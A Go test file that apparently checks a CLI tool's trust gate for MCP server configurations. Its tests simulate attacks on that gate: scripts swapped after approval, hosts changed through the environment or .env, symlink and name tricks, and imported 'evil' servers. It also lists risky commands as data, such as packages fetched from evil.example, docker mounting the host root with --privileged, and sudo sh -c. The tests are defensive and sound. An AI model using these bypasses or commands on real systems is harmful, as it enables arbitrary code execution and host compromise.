//go:build unix

package cli

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// useAttacks take effect after the person has agreed, or bypass the agreement.
var useAttacks = map[string]func(h *clone) (args []string, runs bool){
	"--trust, and then the script changes": func(h *clone) ([]string, bool) {
		h.trust()
		h.write("run.sh", h.evil())
		return nil, false
	},
	"--trust of another project": func(h *clone) ([]string, bool) {
		o := h.other("own")
		o.write("tenon.yaml", "version: 1\n")
		o.trust()
		h.t.Chdir(h.dir)
		return nil, false
	},
	"a host of the environment changes": func(h *clone) ([]string, bool) {
		h.t.Setenv("MYHOST", "127.0.0.1:1")
		h.write("tenon.yaml", "servers: {script: {url: \"http://${MYHOST}/mcp\"}}\n")
		h.trust()
		h.t.Setenv("MYHOST", strings.TrimPrefix(h.url, "http://"))
		return nil, false
	},
	"a host of .env changes": func(h *clone) ([]string, bool) {
		h.write(".env", "MYHOST=127.0.0.1:1\n")
		h.write("tenon.yaml", "servers: {script: {url: \"http://${MYHOST}/mcp\"}}\n")
		h.trust()
		h.write(".env", "MYHOST="+strings.TrimPrefix(h.url, "http://")+"\n")
		return nil, false
	},
	"a shell line of .env moves into the environment": func(h *clone) ([]string, bool) {
		h.write(".env", "LINE=true\n")
		h.write("tenon.yaml", "servers: {script: {command: sh, args: [-c, \"${LINE}\"]}}\n")
		h.trust()
		h.t.Setenv("LINE", "touch "+h.trace("evil"))
		return nil, false
	},
	"a project inside a trusted one": func(h *clone) ([]string, bool) {
		h.write("tenon.yaml", "version: 1\n")
		h.trust()
		h.write("vendor/x/tenon.yaml", "servers: {script: {command: sh, args: [run.sh]}}\n")
		h.write("vendor/x/run.sh", h.evil())
		h.chdir(filepath.Join(h.dir, "vendor", "x"))
		return nil, false
	},
	"a project around a trusted one": func(h *clone) ([]string, bool) {
		o := &clone{t: h.t, dir: filepath.Join(h.dir, "inner"), traces: h.traces, url: h.url}
		o.chdir(o.dir)
		o.write("tenon.yaml", "version: 1\n")
		o.trust()
		h.do(os.Remove("tenon.yaml")) // now the project in the folder above is found
		return nil, false
	},
	"the same folder by a link": func(h *clone) ([]string, bool) {
		h.trust()
		h.do(os.Symlink(h.dir, h.beside("link")))
		h.t.Chdir(h.beside("link"))
		return nil, true
	},
	"a link to the trusted file in another folder": func(h *clone) ([]string, bool) {
		h.trust()
		o := h.other("theirs")
		h.do(os.Symlink(filepath.Join(h.dir, "tenon.yaml"), "tenon.yaml"))
		o.write("run.sh", h.evil())
		return nil, false
	},
	"a trusted name in other letters": func(h *clone) ([]string, bool) {
		h.trust()
		o := h.other("CLONE")
		o.write("tenon.yaml", "servers: {script: {command: sh, args: [run.sh]}}\n")
		o.write("run.sh", h.evil())
		return nil, false
	},
	"a trusted name with a trailing dot": func(h *clone) ([]string, bool) {
		h.trust()
		o := h.other("clone.")
		o.write("tenon.yaml", "servers: {script: {command: sh, args: [run.sh]}}\n")
		o.write("run.sh", h.evil())
		return nil, false
	},
	"revoked, and then resumed": func(h *clone) ([]string, bool) {
		h.trust()
		runHere(h.t, "trust", "revoke")
		return nil, false
	},
	"revoked, and then edited by the owner": func(h *clone) ([]string, bool) {
		h.trust()
		runHere(h.t, "trust", "revoke")
		h.edit("servers", "add", "x", "http://127.0.0.1:1/mcp")
		return nil, false
	},
	"imported twice": func(h *clone) ([]string, bool) {
		h.trust()
		h.write("theirs.json", `{"mcpServers": {"evil": {"command": "sh", "args": ["-c", "touch `+h.trace("evil")+`"]}}}`)
		h.edit("config", "import", "theirs.json", "--write")
		runHere(h.t, "config", "import", "theirs.json", "--write")
		return []string{"servers", "test", "evil"}, false
	},
	"imported, and then edited by the owner": func(h *clone) ([]string, bool) {
		h.trust()
		h.write("theirs.json", `{"mcpServers": {"evil": {"command": "sh", "args": ["-c", "touch `+h.trace("evil")+`"]}}}`)
		h.edit("config", "import", "theirs.json", "--write")
		h.edit("servers", "add", "x", "http://127.0.0.1:1/mcp")
		return []string{"servers", "test", "evil"}, false
	},
	"the file of disabled servers is a link": func(h *clone) ([]string, bool) {
		h.trust()
		h.do(os.WriteFile(h.beside("victim"), []byte("{}\n"), 0o600))
		h.do(os.MkdirAll(".tenon", 0o700))
		h.do(os.Symlink(h.beside("victim"), ".tenon/switches.json"))
		runHere(h.t, "servers", "disable", "script")
		if b, err := os.ReadFile(h.beside("victim")); err != nil || string(b) != "{}\n" {
			h.t.Errorf("another file was written: %q %v", b, err)
		}
		return []string{"version"}, false
	},
}

// TestAttackUse checks which files and programs are used after the agreement.
func TestAttackUse(t *testing.T) {
	for name, do := range useAttacks {
		t.Run(strings.ReplaceAll(name, " ", "_"), func(t *testing.T) {
			h := newClone(t)
			h.small()
			args, runs := do(h)
			if args == nil {
				args = []string{"servers", "test", "script"}
			}
			status, stdout, stderr := runHere(t, args...)
			if h.harmed() != runs {
				t.Errorf("status %d, something ran: %v: %s%s %v", status, h.harmed(), stdout, stderr, h.hits)
			}
		})
	}
}

// TestAttackWording checks that the list names what a command downloads or loads in addition to its own files, and
// which data it gets.
func TestAttackWording(t *testing.T) {
	for command, want := range map[string]string{
		`npm, args: [start]`:                         "not bound: what npm runs",
		`sh, args: [-o, errexit, x]`:                 "not bound: what x loads",
		`python3, args: [-X, dev, x]`:                "not bound: what x loads",
		`ruby, args: [-I, sub, x]`:                   "not bound: what x loads",
		`env, args: [-u, FOO, sh, x]`:                "not bound: what x loads",
		`strace, args: [sh, x]`:                      "not bound: what x loads",
		`ionice, args: [-c3, sh, x]`:                 "not bound: what x loads",
		`script, args: [-qc, "sh x"]`:                "not bound: what x loads",
		`vim, args: [-S, x]`:                         "not bound: what x loads",
		`awk, args: [-fx]`:                           "not bound: what x loads",
		`perl, args: [-Mfoo, "-e1"]`:                 "not bound: what perl loads",
		`gdb, args: [-p, "1"]`:                       "not bound: what gdb loads",
		`npm, args: [run, build]`:                    "not bound: what npm runs",
		`yarn, args: [dev]`:                          "not bound: what yarn runs",
		`make, args: [run]`:                          "not bound: what make runs",
		`python3, args: [-m, server]`:                "not bound: the module that python loads",
		`python3.12, args: [-m, server]`:             "not bound: the module that python loads",
		`sh, args: [-c, ./x]`:                        "not bound: what the shell line calls",
		`bash, args: [-lc, ./x]`:                     "not bound: ",
		`sh, args: [-ec, ./x]`:                       "not bound: ",
		`env, args: [-S, "sh x"]`:                    "not bound: the program that env finds",
		`npx, args: [-y, "pkg@^1.2"]`:                "the package pkg@^1.2 that npx fetches",
		`npx, args: [-y, pkg]`:                       "the package pkg that npx fetches",
		`npx, args: [-p, evil, harmless]`:            "evil",
		`npx, args: ["--package=evil", harmless]`:    "the package evil that npx fetches",
		`npx, args: [--package, evil, -c, harmless]`: "the package evil that npx fetches",
		`uvx, args: [--from, evil, harmless]`:        "the package evil that uvx fetches",
		`uvx, args: [--with, evil, "tool>=1,<2"]`:    "the packages evil, tool>=1,<2 that uvx fetches",
		`uvx, args: [-p, "3.12", tool, --from, x]`:   "the package tool that uvx fetches",
		`npx`:                                  "the package that npx fetches",
		`pipx, args: [run, --spec=evil, tool]`: "the package evil that pipx fetches",
		`uvx, args: ["git+https://evil.example/x"]`:                                 "the package git+https://evil.example/x that uvx fetches",
		`pipx, args: [run, tool]`:                                                   "tool",
		`uv, args: [run, tool]`:                                                     "what uv fetches and loads",
		`docker, args: [run, -v, "/:/host", evil]`:                                  "start docker run -v /:/host evil; not bound: the image and the files that docker uses",
		`docker, args: [run, --privileged, "--mount=type=bind,src=/,dst=/h", evil]`: "--privileged --mount=type=bind,src=/,dst=/h",
		`git, args: [status]`:                                                       "not bound: ",
		`ssh, args: [host, run]`:                                                    "not bound: what runs on the other machine",
		`tenon, args: [run, x], env: {TENON_TRUST: all}`:                            "TENON_TRUST=all",
		`sudo, args: [sh, -c, x]`:                                                   "start sudo sh -c x",
		`deno, args: [run, "https://evil.example/x.ts"]`:                            "what deno fetches and loads",
		`node, args: [-e, "fetch(1)"]`:                                              "what the code in the command line loads",
	} {
		t.Run(strings.ReplaceAll(command, " ", "_"), func(t *testing.T) {
			h := newClone(t)
			h.write("x", "true\n")
			h.write("tenon.yaml", "servers: {a: {command: "+command+"}}\n")
			status, stdout, stderr := runHere(t, "trust", "show")
			if status != exitOK || !strings.Contains(stdout, want) {
				t.Errorf("status %d, %q is not in: %s%s", status, want, stdout, stderr)
			}
			h.unharmed()
		})
	}
}

// TestAttackRevokedServe checks that after the trust was revoked a running tenon serve does not apply changes, even if
// an older record agreed to them.
func TestAttackRevokedServe(t *testing.T) {
	s := startServing(t, map[string]string{"tenon.yaml": quietFile})
	if status, text := s.tenon("trust", "--trust"); status != exitOK {
		t.Fatal(text)
	}
	if status, text := s.tenon("trust", "revoke"); status != exitOK {
		t.Fatal(text)
	}
	s.write(map[string]string{"tenon.yaml": strings.Replace(quietFile, "servers:\n", "servers:\n  evil: SHELL\n", 1)})
	s.awaits("held back until you agree")
	s.unharmed()
	if status, text := s.ask("GET", "/api/v1/config/proposals/reload", ""); status != 200 {
		t.Errorf("%d %s", status, text)
	}
}

// TestAttackLinkedServe checks that a request over HTTP does not write through a link that leads out of the project.
func TestAttackLinkedServe(t *testing.T) {
	s := startServing(t, map[string]string{"tenon.yaml": quietFile, "~/victim.yaml": quietFile, "~/.config/tenon/config.yaml": "serve: {allow_server_edit: true}\n"})
	if err := os.Remove(s.file()); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(s.home, "victim.yaml"), s.file()); err != nil {
		t.Fatal(err)
	}
	status, text := s.ask("PUT", "/api/v1/config/servers/x", `{"entry":{"command":"none"}}`)
	if b, err := os.ReadFile(filepath.Join(s.home, "victim.yaml")); err != nil || string(b) != quietFile || status < 400 || !strings.Contains(text, "victim.yaml") {
		t.Errorf("status %d %s, the other file is %q, %v", status, text, b, err)
	}
}
